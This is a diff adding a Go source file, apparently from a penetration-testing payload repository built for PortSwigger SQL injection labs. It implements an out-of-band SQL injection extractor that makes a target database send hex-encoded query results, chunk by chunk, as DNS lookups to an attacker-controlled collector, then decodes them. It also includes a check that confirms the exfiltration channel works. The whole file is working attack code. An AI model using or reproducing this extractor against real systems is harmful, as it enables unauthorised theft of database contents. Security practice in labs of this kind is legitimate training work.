@@ -0,0 +1,142 @@
+package sqli
+
+import (
+	"encoding/binary"
+	"encoding/hex"
+	"fmt"
+	"strings"
+	"time"
+	"unicode/utf16"
+	"unicode/utf8"
+
+	"github.io/kinasr/pen_payloads/PortSwiggerLabs/SQLi/lab_8/constant"
+	"github.io/kinasr/pen_payloads/PortSwiggerLabs/SQLi/lab_8/logger"
+	"github.io/kinasr/pen_payloads/PortSwiggerLabs/SQLi/lab_8/oast"
+	"github.io/kinasr/pen_payloads/PortSwiggerLabs/SQLi/lab_8/utility"
+)
+
+// oobTestValue is exfiltrated on purpose to confirm that callbacks reach the collector.
+const oobTestValue = "qzxoobtest"
+
+// OOBExtractor retrieves data by making the database resolve a host under the
+// collector's domain, with the hex-encoded value as the leading DNS label.
+type OOBExtractor struct {
+	client    *utility.HTTPClient
+	point     InjectionPoint
+	boundary  Boundary
+	db        constant.Database
+	collector *oast.Collector
+
+	Timeout time.Duration // How long to wait for each callback
+}
+
+// NewOOBExtractor returns an extractor that exfiltrates through the given running collector.
+func NewOOBExtractor(client *utility.HTTPClient, point InjectionPoint, boundary Boundary, db constant.Database, collector *oast.Collector) (*OOBExtractor, error) {
+	if err := db.Require(constant.CAPABILITY_OOB); err != nil {
+		return nil, err
+	}
+
+	return &OOBExtractor{
+		client:    client,
+		point:     point,
+		boundary:  boundary,
+		db:        db,
+		collector: collector,
+		Timeout:   constant.OOB_TIMEOUT_SECONDS * time.Second,
+	}, nil
+}
+
+func (o *OOBExtractor) Name() string {
+	return TECHNIQUE_OOB
+}
+
+// ExtractString exfiltrates the value of the SQL expression in chunks that fit into a DNS label
+// even when every character takes four bytes in UTF-8.
+func (o *OOBExtractor) ExtractString(expression string) (string, error) {
+	var value strings.Builder
+	for position := 1; position <= constant.MAX_BLIND_LENGTH; position += constant.OOB_CHUNK_SIZE {
+		chunk, err := o.exfiltrate(fmt.Sprintf("%s((%s),%d,%d)", o.db.SubstringFunction, expression, position, constant.OOB_CHUNK_SIZE))
+		if err != nil {
+			return value.String(), err
+		}
+		value.WriteString(chunk)
+		// A short chunk is the end of the value; count characters, as the chunk was cut in characters
+		if utf8.RuneCountInString(chunk) < constant.OOB_CHUNK_SIZE {
+			return value.String(), nil
+		}
+	}
+	return value.String(), fmt.Errorf("value is longer than the maximum length (%d)", constant.MAX_BLIND_LENGTH)
+}
+
+// exfiltrate injects one OOB payload under a fresh probe and decodes the value from its callback.
+func (o *OOBExtractor) exfiltrate(expression string) (string, error) {
+	probe, err := o.send(expression)
+	if err != nil {
+		return "", err
+	}
+	interactions := o.collector.Wait(probe.Token, o.Timeout)
+	if len(interactions) == 0 {
+		return "", fmt.Errorf("no out-of-band callback received for probe %s within %s", probe.Token, o.Timeout)
+	}
+	return decodeCallback(interactions[0], o.db.HexUTF16)
+}
+
+// send injects the OOB payload for the expression under a fresh probe without waiting for its callback.
+func (o *OOBExtractor) send(expression string) (oast.Probe, error) {
+	probe, err := o.collector.NewProbe()
+	if err != nil {
+		return oast.Probe{}, err
+	}
+
+	response, err := sendPayload(o.client, o.point, o.payload(expression, probe.Host))
+	if err != nil {
+		return oast.Probe{}, err
+	}
+	utility.SafeClose(response.Body)
+	return probe, nil
+}
+
+// payload injects the OOB payload that sends the hex-encoded expression to the host.
+func (o *OOBExtractor) payload(expression string, host string) string {
+	return o.boundary.Inject(fmt.Sprintf(o.db.OOBPayload, o.db.Hex(expression), host), o.db)
+}
+
+// decodeCallback decodes the value carried by the leading label of a callback, hex-encoded
+// from UTF-16LE when isUTF16 is set and from UTF-8 otherwise.
+func decodeCallback(interaction oast.Interaction, isUTF16 bool) (string, error) {
+	// Every payload prefixes the value with "x" so an empty value still forms a valid label
+	label := strings.TrimPrefix(strings.ToLower(interaction.Data), "x")
+	decoded, err := hex.DecodeString(label)
+	if err != nil {
+		return "", fmt.Errorf("failed to decode exfiltrated label %q: %w", interaction.Data, err)
+	}
+	value := string(decoded)
+	if isUTF16 {
+		if len(decoded)%2 != 0 {
+			return "", fmt.Errorf("exfiltrated label %q is not UTF-16", interaction.Data)
+		}
+		units := make([]uint16, len(decoded)/2)
+		for i := range units {
+			units[i] = binary.LittleEndian.Uint16(decoded[2*i:])
+		}
+		value = string(utf16.Decode(units))
+	}
+	logger.Debugf("Exfiltrated value through %s callback: %s", interaction.Protocol, value)
+	return value, nil
+}
+
+// DoesOOBVulnerabilityExist checks whether a known value arrives at the collector
+// through the out-of-band payload of the given database.
+func DoesOOBVulnerabilityExist(client *utility.HTTPClient, point InjectionPoint, boundary Boundary, db constant.Database, collector *oast.Collector) (bool, error) {
+	extractor, err := NewOOBExtractor(client, point, boundary, db, collector)
+	if err != nil {
+		return false, err
+	}
+
+	value, err := extractor.exfiltrate("'" + oobTestValue + "'")
+	if err != nil {
+		logger.Debugf("Out-of-band test failed for %s: %s", db.Name, err.Error())
+		return false, nil
+	}
+	return value == oobTestValue, nil
+}